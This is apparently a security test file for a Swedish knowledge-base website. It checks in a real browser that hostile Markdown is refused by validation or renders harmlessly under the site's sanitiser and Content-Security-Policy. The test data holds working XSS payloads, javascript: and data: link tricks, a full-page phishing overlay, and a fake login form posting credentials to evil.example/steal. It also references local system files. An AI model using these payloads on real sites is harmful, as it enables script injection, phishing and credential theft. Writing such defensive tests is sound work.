// Hostile Markdown in a real browser. Two samples:
// - ACCEPTED: Markdown that `kb validate` lets through although it tries something (a fake
//   login link, HTML written as text, code, odd link titles). It must render harmlessly.
// - REFUSED: Markdown that `kb validate` rejects (scripts, overlays, SVG, forms, javascript:
//   links, files outside content/). Had it slipped through, it must still do no harm.
// Each sample is turned into HTML the way the site does it — remark-parse, GFM,
// remark-rehype keeping raw HTML, rehype-raw, then the site's own rehype plugins from the
// module docusaurus.config.ts uses — and loaded at the site's origin under the site's
// Content-Security-Policy. Then: no dialog, no flag set by script, no request for anything,
// nothing covering the page, no file content from outside content/, even after every
// element has been hovered and clicked.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { toHtml } from "hast-util-to-html";
import type { Root } from "hast";
import type { Page, Request } from "playwright-core";
import rehypeRaw from "rehype-raw";
import remarkGfm from "remark-gfm";
import remarkParse from "remark-parse";
import remarkRehype from "remark-rehype";
import { unified } from "unified";
import { describe, expect, it } from "vitest";
import { checkFile } from "@kunskapsbanken/indexer";
import { validatePractice } from "@kunskapsbanken/content-schema";
import { rehypePlugins } from "../../apps/site/src/plugins/sanitize/index.ts";
import { policyWithScriptHashes } from "../../apps/site/src/plugins/csp/policy.ts";
import { useBrowser } from "../setup/browser.ts";
import { repoRoot } from "../setup/paths.ts";

// Written without spaces so that it stays inside link destinations and attribute values.
const SCRIPT_RAN = "window.top.kbPwned=1";

const accepted: [string, string][] = [
  ["a login link that looks like the site's", '## Logga in igen\n\n[Logga in igen](https://evil.example/login "Din session har gått ut")'],
  ["a link whose text is another address", "[https://www.flen.se](https://evil.example/flen)"],
  ["escaped script tags in a heading", `## \\<script>${SCRIPT_RAN}\\</script>\n\nText.`],
  ["an image with a handler in inline code", `Text med \`<img src=x onerror="${SCRIPT_RAN}">\` i kod.`],
  ["script and iframe in a code block", `\`\`\`html\n<script>${SCRIPT_RAN}</script>\n<iframe src="https://evil.example"></iframe>\n\`\`\``],
  [
    "HTML written with character references",
    `&lt;script&gt;${SCRIPT_RAN}&lt;/script&gt; och &#60;b onclick="${SCRIPT_RAN}"&#62;klick&#60;/b&#62;`,
  ],
  ["a link title that tries to break out of its attribute", `[titel](https://www.flen.se "\\" onmouseover=\\"${SCRIPT_RAN}")`],
  ["a script in a link's query string", `[frågetecken](https://evil.example/?q=<script>${SCRIPT_RAN}</script>)`],
  [
    "autolinked addresses with javascript: and quotes",
    `www.evil.example/javascript:${SCRIPT_RAN} och https://evil.example/"onmouseover=${SCRIPT_RAN}`,
  ],
  [
    "escaped style and a closing tag in table cells",
    `| a | b |\n|---|---|\n| \\<style>body{display:none}\\</style> | \`</td><script>${SCRIPT_RAN}</script>\` |`,
  ],
  ["a mailto: link with a script in its subject", `[e-post](mailto:kontakt@flen.se?subject=<script>${SCRIPT_RAN}</script>)`],
];

const refused: [string, string][] = [
  ["script", `<script>${SCRIPT_RAN}; alert(1)</script>`],
  ["inline handlers", `<p onmouseover="${SCRIPT_RAN}" onclick="alert(1)">För musen hit</p><img src=x onerror="${SCRIPT_RAN}">`],
  [
    "a full-page fixed overlay with a login link",
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff"><a href="https://evil.example/login" style="display:block;width:100%;height:100%;font-size:40px">Logga in igen</a></div>',
  ],
  [
    "style element",
    "<style>a { position: fixed; inset: 0; z-index: 9999 } body { visibility: hidden }</style>[länk](https://evil.example)",
  ],
  [
    "SVG animate and set turning a link into javascript:",
    `<svg width="100%" height="400"><a><animate attributeName="href" values="javascript:${SCRIPT_RAN}" /><set attributeName="href" to="javascript:${SCRIPT_RAN}" /><rect width="100%" height="100%" fill="red" /><text x="20" y="40">Klicka här</text></a></svg>`,
  ],
  [
    "javascript: links with control characters in the scheme",
    `<a href="java&#x09;script:${SCRIPT_RAN}">tab</a> <a href="&#x01;javascript:${SCRIPT_RAN}">ctrl</a> [md](java&#10;script:${SCRIPT_RAN})`,
  ],
  [
    "data: links",
    `<a href="data:text/html,<script>${SCRIPT_RAN}</script>">html</a> [md](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  ],
  [
    "a login form",
    `<form action="https://evil.example/steal" method="post"><input name="user" placeholder="Användarnamn"><input name="password" type="password"><button type="submit" formaction="javascript:${SCRIPT_RAN}">Logga in igen</button></form>`,
  ],
  [
    "meta refresh and base",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">[relativ](/praktik/x)',
  ],
  [
    "iframe, object and embed",
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.svg">',
  ],
  [
    "files outside content/",
    '[låsfilen](../../package-lock.json) ![värdnamn](/etc/hostname) <img src="../../package-lock.json"> <iframe src="file:///etc/hostname"></iframe> <object data="/etc/hostname"></object> <link rel="stylesheet" href="../../package-lock.json">',
  ],
];

const markdownToHast = () => unified().use(remarkParse).use(remarkGfm).use(remarkRehype, { allowDangerousHtml: true }).use(rehypeRaw);
const sitePipeline = markdownToHast().use(rehypePlugins);
const unsanitised = markdownToHast();

interface Layers {
  /** Run the site's rehype plugins (default true). */
  sanitise?: boolean;
  /** Put the site's Content-Security-Policy in the page (default true). */
  policy?: boolean;
}

function toPageHtml(markdown: string, { sanitise = true, policy = true }: Layers = {}): string {
  const processor = sanitise ? sitePipeline : unsanitised;
  const body = toHtml(processor.runSync(processor.parse(markdown)) as Root);
  // The site's policy; the sample page has no inline scripts of its own, so no hashes.
  const meta = policy ? `<meta http-equiv="Content-Security-Policy" content="${policyWithScriptHashes([]).replace(/"/g, "&quot;")}">` : "";
  return `<!doctype html><html lang="sv"><head><meta charset="utf-8">${meta}<title>Prov</title></head><body><main><p>Före.</p>${body}<p>Efter.</p></main></body></html>`;
}

function practiceWith(body: string): string {
  const practice = readFileSync(join(repoRoot, "content/practices/sodermanlands-lan/nykoping-fritidsbanken.md"), "utf8");
  return `${practice.slice(0, practice.indexOf("\n---\n", 4) + 5)}\n${body}\n`;
}

const validationErrors = (body: string) =>
  checkFile("content/practices/sodermanlands-lan/nykoping-fritidsbanken.md", practiceWith(body), validatePractice).problems.filter(
    (p) => p.severity === "error",
  );

/** Text of files outside content/ that must never reach a page. */
const secrets = [
  ...(existsSync("/etc/hostname") ? [readFileSync("/etc/hostname", "utf8").trim()].filter((name) => name.length >= 6) : []),
  /"integrity": "(sha512-[^"]+)"/.exec(readFileSync(join(repoRoot, "package-lock.json"), "utf8"))![1]!,
  '"lockfileVersion"',
];

interface Verdict {
  dialogs: string[];
  requests: string[];
  navigations: string[];
  scriptRan: boolean;
  covering: string[];
  positioned: string[];
  badLinks: string[];
  leaked: string[];
}

/** Loads the sample at the site's origin, hovers and clicks everything, and reports what happened. */
async function exercise(page: Page, baseUrl: string, markdown: string, layers: Layers = {}): Promise<Verdict> {
  const blank = `${baseUrl}/__prov`;
  const dialogs: string[] = [];
  const requests: string[] = [];
  const navigations: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // Nothing leaves the browser: the blank page is served here, a navigation gets 204 (the
  // browser stays on the page) and any other request is recorded and refused.
  await page.route("**/*", async (route) => {
    const request: Request = route.request();
    if (request.url() === blank) return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Prov</title>" });
    if (request.isNavigationRequest()) {
      navigations.push(request.url());
      return route.fulfill({ status: 204 });
    }
    requests.push(`${request.resourceType()} ${request.url()}`);
    return route.abort();
  });
  await page.goto(blank);
  navigations.length = 0;
  await page.setContent(toPageHtml(markdown, layers));
  const handles = await page.$$("body *");
  for (const handle of handles) {
    const box = await handle.boundingBox();
    if (!box || box.width === 0 || box.height === 0) continue;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    // Let the click's default action (a navigation, a javascript: URL) take its turn.
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
  }
  const state = await page.evaluate((secretTexts) => {
    const { innerWidth: w, innerHeight: h } = window;
    const points: [number, number][] = [
      [w / 2, h / 2],
      [1, 1],
      [w - 2, 1],
      [1, h - 2],
      [w - 2, h - 2],
    ];
    const covering = points.flatMap(([x, y]) => {
      const link = document.elementFromPoint(x, y)?.closest("a");
      return link && new URL(link.href, location.href).origin !== location.origin ? [`${x},${y}: ${link.href}`] : [];
    });
    const positioned = Array.from(document.querySelectorAll("body *"))
      .filter((element) => getComputedStyle(element).position !== "static")
      .map((element) => element.outerHTML.slice(0, 80));
    const badLinks = Array.from(document.querySelectorAll("[href], [src], [action], [formaction], [data]"))
      .map(
        (element) =>
          element.getAttribute("href") ??
          element.getAttribute("src") ??
          element.getAttribute("action") ??
          element.getAttribute("formaction") ??
          element.getAttribute("data") ??
          "",
      )
      .filter((url) => !/^(?:https?:|mailto:)/i.test(url) && new URL(url, location.href).origin !== location.origin);
    const html = document.documentElement.outerHTML;
    return {
      scriptRan: (window as unknown as { kbPwned?: number }).kbPwned !== undefined,
      covering,
      positioned,
      badLinks,
      leaked: secretTexts.filter((text) => html.includes(text)),
    };
  }, secrets);
  return { dialogs, requests, navigations, ...state };
}

describe("hostile Markdown in the browser", () => {
  const browser = useBrowser();

  const harmless = (verdict: Verdict) => {
    expect(verdict.dialogs, "dialogs").toEqual([]);
    expect(verdict.scriptRan, "script ran").toBe(false);
    expect(verdict.requests, "requests for images, frames, styles or data").toEqual([]);
    expect(
      verdict.navigations.filter((url) => !/^https?:\/\//.test(url)),
      "navigations off the web",
    ).toEqual([]);
    expect(verdict.covering, "links to other sites covering the page").toEqual([]);
    expect(verdict.positioned, "positioned elements").toEqual([]);
    expect(verdict.badLinks, "links that are not http(s), mailto or to the site itself").toEqual([]);
    expect(verdict.leaked, "content of files outside content/").toEqual([]);
  };

  it.each(accepted)("accepted: %s passes validation and renders harmlessly", async (_name, markdown) => {
    expect(validationErrors(markdown)).toEqual([]);
    const page = await browser.page();
    const verdict = await exercise(page, browser.baseUrl, markdown);
    harmless(verdict);
    // The text is shown as written: what looked like HTML is visible, not interpreted.
    const text = (await page.locator("main").textContent()) ?? "";
    expect(text).toContain("Före.");
    expect(text).toContain("Efter.");
    if (markdown.includes("\\<script>") || markdown.includes("&lt;script&gt;") || markdown.includes("```"))
      expect(text).toContain("<script>");
    await page.context().close();
  });

  it.each(refused)("refused: %s is refused by validation, and would have been harmless", async (_name, markdown) => {
    expect(validationErrors(markdown).length).toBeGreaterThan(0);
    const page = await browser.page();
    harmless(await exercise(page, browser.baseUrl, markdown));
    await page.context().close();
  });

  // Each layer alone, on the samples it is meant to stop; and neither, to show that the
  // checks above would notice harm.
  it("the policy alone stops the refused scripts, handlers and javascript: links", async () => {
    for (const [name, markdown] of [refused[0]!, refused[1]!, refused[4]!, refused[5]!, refused[7]!]) {
      const page = await browser.page();
      const verdict = await exercise(page, browser.baseUrl, markdown, { sanitise: false });
      expect(verdict.scriptRan, name).toBe(false);
      expect(verdict.dialogs, name).toEqual([]);
      await page.context().close();
    }
  });

  it("without sanitising and without the policy, the checks see the harm", async () => {
    const handlers = await browser.page();
    expect((await exercise(handlers, browser.baseUrl, refused[1]![1], { sanitise: false, policy: false })).scriptRan).toBe(true);
    await handlers.context().close();
    const overlay = await browser.page();
    const verdict = await exercise(overlay, browser.baseUrl, refused[2]![1], { sanitise: false, policy: false });
    expect(verdict.covering.length).toBeGreaterThan(0);
    expect(verdict.positioned.length).toBeGreaterThan(0);
    await overlay.context().close();
  });
});
